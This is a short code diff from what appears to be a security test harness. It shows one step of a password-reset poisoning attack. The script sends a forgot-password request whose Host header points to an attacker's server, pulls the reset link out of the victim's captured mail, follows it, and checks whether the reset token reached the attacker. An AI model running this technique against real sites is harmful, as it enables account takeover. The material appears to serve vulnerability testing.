@@ -15,7 +15,7 @@ export default {
     step('A new password is asked for, at the host of Mallory')
     const decisive = await ask('POST', '/auth/forgot', { headers: { host: new URL(url).host }, json: { email: `${username}@people.example` }, machine: 1 })
     step('The victim opens the link in the mail')
-    const [, link] = new RegExp(`To: ${username}@people.example[^]*?(${url}/\\S+)`).exec(await stolen()) ?? []
+    const [[, link] = []] = await stolen(new RegExp(`To: ${username}@people.example[^]*?(${url}/\\S+)`))
     if (link !== undefined) await new Promise((resolve, reject) => { get(link, response => { response.resume().on('end', resolve) }).on('error', reject) })
     const token = new URL(hits[0]?.url ?? '/', url).searchParams.get('token')
     if (token === null) return { succeeded: false, decisive, evidence: 'Nobody comes to her server' }
